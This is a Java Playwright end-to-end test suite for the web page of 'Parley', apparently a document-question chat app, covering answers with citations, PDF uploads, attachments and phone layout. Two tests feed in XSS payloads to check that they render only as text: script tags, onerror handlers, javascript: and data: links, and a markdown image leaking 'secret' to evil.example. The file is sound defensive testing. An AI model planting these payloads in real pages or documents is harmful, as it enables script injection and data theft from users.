package dev.parley.bootstrap.e2e;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.microsoft.playwright.Browser;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.BrowserType;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Playwright;
import com.microsoft.playwright.assertions.LocatorAssertions;
import com.microsoft.playwright.assertions.PlaywrightAssertions;
import com.microsoft.playwright.options.AriaRole;
import com.microsoft.playwright.options.FilePayload;
import java.io.File;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInfo;
import org.junit.jupiter.api.Timeout;

/** The page at {@code /} in Chromium, as a person uses it. */
@Timeout(value = 8, unit = TimeUnit.MINUTES)
class PageTest {
  private static final Path SCREENSHOTS = Path.of("target", "screenshots");
  private static final double PATIENCE_MILLIS = 60_000;

  private static final List<String> ARGUMENTS =
      List.of(
          "--headless",
          "--no-sandbox",
          "--disable-gpu",
          "--disable-quic",
          "--no-first-run",
          "--disable-background-networking",
          "--disable-component-update",
          "--disable-sync");

  private static Playwright playwright;
  private static Browser browser;
  private static ServerProcess server;

  /** What the page did that it must not do. */
  private final Queue<String> faults = new ConcurrentLinkedQueue<>();

  private BrowserContext context;
  private Page page;
  private String name = "";
  private String expectedFault = "";

  @BeforeAll
  static void openBrowser() {
    Optional<Path> chromium = chromium();
    if (chromium.isEmpty()) {
      String notice = "no Chromium on the PATH: the page at / is not tested";
      assertThat(System.getenv("CI")).as(notice).isNotEqualTo("true");
      System.err.println(notice);
      assumeTrue(false, notice);
    }
    server = Servers.plain();
    Map<String, String> environment = new HashMap<>(System.getenv());
    environment.put("PLAYWRIGHT_SKIP_BROWSER_DOWNLOAD", "1");
    playwright = Playwright.create(new Playwright.CreateOptions().setEnv(environment));
    browser =
        playwright
            .chromium()
            .launch(
                new BrowserType.LaunchOptions()
                    .setExecutablePath(chromium.orElseThrow())
                    .setArgs(ARGUMENTS));
    PlaywrightAssertions.setDefaultAssertionTimeout(PATIENCE_MILLIS);
  }

  private static Optional<Path> chromium() {
    return Arrays.stream(System.getenv("PATH").split(File.pathSeparator, -1))
        .flatMap(
            folder ->
                List.of("chromium", "chromium-browser", "google-chrome").stream()
                    .map(program -> Path.of(folder, program)))
        .filter(Files::isExecutable)
        .findFirst();
  }

  @AfterAll
  static void closeBrowser() {
    if (playwright != null) {
      playwright.close();
    }
  }

  @BeforeEach
  void openPage(TestInfo test) {
    name = test.getTestMethod().orElseThrow().getName();
    open(1280, 800);
  }

  private void open(int width, int height) {
    if (context != null) {
      context.close();
    }
    context = browser.newContext(new Browser.NewContextOptions().setViewportSize(width, height));
    page = context.newPage();
    page.setDefaultTimeout(PATIENCE_MILLIS);
    page.onConsoleMessage(
        message -> {
          if (message.type().equals("error") || message.type().equals("warning")) {
            faults.add(message.type() + " on the console: " + message.text());
          }
        });
    page.onPageError(error -> faults.add("uncaught: " + error));
    page.onDialog(
        dialog -> {
          faults.add("a dialog: " + dialog.message());
          dialog.dismiss();
        });
    context.onRequest(
        request -> {
          URI uri = URI.create(request.url());
          boolean elsewhere =
              !uri.getScheme().equals("data") && uri.getPort() != server.url().getPort();
          if (elsewhere) {
            faults.add("a request to " + request.url());
          }
        });
    page.addInitScript(
        "addEventListener('securitypolicyviolation', e => console.error('CSP: ' + e.violatedDirective + ' ' + e.blockedURI));");
  }

  @AfterEach
  void pageBehaved() {
    if (context != null) {
      context.close();
    }
    assertThat(faults)
        .filteredOn(fault -> expectedFault.isEmpty() || !fault.contains(expectedFault))
        .isEmpty();
  }

  private Locator part(String testId) {
    return page.getByTestId(testId);
  }

  private void screenshot(String step) {
    page.screenshot(
        new Page.ScreenshotOptions().setPath(SCREENSHOTS.resolve(name + "-" + step + ".png")));
  }

  private void enter(String key) {
    page.navigate(server.url() + "/#key=" + key);
    assertThat(part("composer")).isVisible();
  }

  private Locator ask(String question) {
    part("composer").fill(question);
    part("send").click();
    Locator answer = part("message-assistant").last();
    assertThat(part("message-user").last()).hasText(question);
    assertThat(answer).hasAttribute("data-state", "completed");
    return answer;
  }

  @Test
  void demoLinkLeadsToACitedAnswer() {
    String key = server.demo().key();
    enter(key);
    assertThat(page.url()).doesNotContain(key);
    screenshot("1-empty");
    Locator answer = ask("How does Parley keep tenants apart?");
    screenshot("2-answer");
    answer.getByTestId("citation-marker").first().click();
    assertThat(part("citation-panel")).isVisible();
    String quote = part("citation-quote").textContent();
    assertThat(quote).isNotBlank();
    assertThat(part("citation-panel").textContent()).contains(quote);
    screenshot("3-citation");
    assertThat(part("conversation-item").first()).containsText("How does Parley keep tenants");

    page.reload();
    assertThat(part("message-assistant").last()).hasAttribute("data-state", "completed");
    part("new-chat").click();
    assertThat(part("message-user")).hasCount(0);
    part("search").fill("keep TENANTS apart");
    part("conversation-item").first().click();
    assertThat(part("message-assistant").first()).containsText("1");
    part("search").fill("nobody ever asked this");
    assertThat(part("conversation-item")).hasCount(0);
  }

  @Test
  void answerStreamsIntoThePage() {
    enter(server.demo().key());
    // Watches from within the page: what is seen from outside may miss a fast answer's growth.
    page.evaluate(
        """
        () => {
          window.lengths = [];
          new MutationObserver(() => {
            const text = [...document.querySelectorAll('[data-testid=message-assistant]')].at(-1)?.textContent ?? '';
            if (window.lengths.at(-1) !== text.length) window.lengths.push(text.length);
          }).observe(document.body, {subtree: true, childList: true, characterData: true});
        }""");
    Locator unused = ask("What happens to an answer when the server is killed?");
    assertThat(((Number) page.evaluate("() => window.lengths.length")).intValue()).isGreaterThan(1);
  }

  @Test
  void keyCanBePastedAndAWrongOneIsRefused() {
    page.navigate(server.url() + "/");
    part("key-input").fill("pk_a-key-that-opens-nothing");
    part("key-submit").click();
    assertThat(part("error-banner")).isVisible();
    screenshot("1-refused");
    // The browser itself writes the refusal on the console.
    expectedFault = "status of 401";
    part("key-input").fill(server.demo().key());
    part("key-submit").click();
    assertThat(part("composer")).isVisible();
  }

  @Test
  void uploadedPdfCanBeAskedAbout() {
    enter(server.demo().key());
    part("add-documents").click();
    part("upload-input")
        .setInputFiles(
            new FilePayload("velmark.pdf", "application/pdf", Pdfs.of(Handbook.pages())));
    Locator status = part("upload-status").first();
    assertThat(status).hasAttribute("data-status", "indexed");
    assertThat(status).containsText("12 pages");
    screenshot("1-uploaded");
    part("upload-close").click();
    Locator answer = ask("Who ground the second lens of Velmark Light?");
    assertThat(answer).containsText("Tessaly Orvane");
    answer.getByTestId("citation-marker").first().click();
    assertThat(part("citation-quote")).containsText("Tessaly Orvane");
    assertThat(part("citation-place")).containsText("Page 3");
    screenshot("2-citation");
  }

  @Test
  void attachedFileIsAskedAbout() {
    enter(server.demo().key());
    part("attach-input")
        .setInputFiles(
            new FilePayload("velmark.pdf", "application/pdf", Pdfs.of(Handbook.pages())));
    assertThat(part("attachment")).hasAttribute("data-status", "ready");
    part("attach-input")
        .setInputFiles(new FilePayload("empty.txt", "text/plain", new byte[] {' '}));
    assertThat(part("attachment").last()).hasAttribute("data-status", "failed");
    part("composer").fill("Who ground the second lens of Velmark Light?");
    assertThat(part("send")).isDisabled();
    screenshot("1-attached");
    // The browser itself writes the refusal on the console.
    expectedFault = "status of 422";
    part("attachment").last().getByRole(AriaRole.BUTTON).click();
    assertThat(part("attachment")).hasCount(1);
    part("send").click();
    Locator answer = part("message-assistant").last();
    assertThat(answer).hasAttribute("data-state", "completed");
    assertThat(answer).containsText("Tessaly Orvane");
    assertThat(part("attachment")).hasCount(0);
    assertThat(part("attached").last()).hasText("velmark.pdf");
    screenshot("2-answered");
    answer.getByTestId("citation-marker").first().click();
    assertThat(part("citation-quote")).containsText("Tessaly Orvane");
    assertThat(part("citation-place")).containsText("Page 3");
    screenshot("3-citation");
    page.reload();
    assertThat(part("attached").last()).hasText("velmark.pdf");
  }

  @Test
  void worksOnAPhone() {
    open(390, 844);
    enter(server.demo().key());
    screenshot("1-empty");
    Locator answer = ask("How does Parley keep tenants apart?");
    screenshot("2-answer");
    assertThat(((Number) page.evaluate("() => document.documentElement.scrollWidth")).intValue())
        .isLessThanOrEqualTo(390);
    answer.getByTestId("citation-marker").first().click();
    assertThat(part("citation-quote")).isInViewport();
    screenshot("3-citation");
    part("citation-close").click();
    part("sidebar-open").click();
    assertThat(part("conversation-item").first())
        .isInViewport(new LocatorAssertions.IsInViewportOptions().setRatio(1));
    screenshot("4-conversations");
  }

  @Test
  void hostileDocumentStaysText() {
    Workspace victim = Workspace.create(server.firstAdministrator(), "hostile");
    String dataset = victim.createDataset("Notes");
    String bot = victim.createBot("reader", dataset);
    assertThat(bot).isNotEmpty();
    String hostile =
        "The marmalade recipe is <script>alert('script')</script> three oranges"
            + " <img src=\"http://evil.example/pixel.png\" onerror=\"alert('img')\"> and"
            + " ![sugar](http://evil.example/leak.png?d=secret) one lemon"
            + " [more](javascript:alert('link')) and [there](data:text/html,<script>alert(1)</script>).";
    String document = victim.ingest(dataset, "recipe.txt", hostile);
    assertThat(document).isNotEmpty();
    enter(victim.admin().key());
    Locator answer = ask("What is the marmalade recipe?");
    assertThat(answer).containsText("three oranges");
    screenshot("1-answer");
    for (String selector :
        List.of("img[src^=http]", "script", "[onerror]", "a[href^=javascript]", "a[href^=data]")) {
      assertThat(answer.locator(selector)).hasCount(0);
    }
    answer.getByTestId("citation-marker").first().click();
    assertThat(part("citation-quote")).containsText("alert('script')");
    assertThat(part("citation-panel").locator("script, img[src^=http]")).hasCount(0);
    screenshot("2-citation");
    page.reload();
    assertThat(part("message-assistant").first()).containsText("three oranges");
    assertThat(page.locator("article img[src^=http]")).hasCount(0);
  }

  @Test
  void hostileTitleStaysText() {
    ApiClient demo = server.demo();
    String hostile = "<img src=x onerror=alert('title')> plans";
    Json answer = demo.post("/v1/chat", Map.of("message", "What are tenants?")).expect(200).json();
    String conversation = "/v1/conversations/" + answer.text("session_id");
    demo.patch(conversation, Map.of("title", hostile)).expect(200);
    enter(demo.key());
    assertThat(part("conversation-item").first()).containsText(hostile);
    part("conversation-item").first().click();
    assertThat(part("message-user").first()).hasText("What are tenants?");
    demo.delete(conversation).expect(204);
  }
}
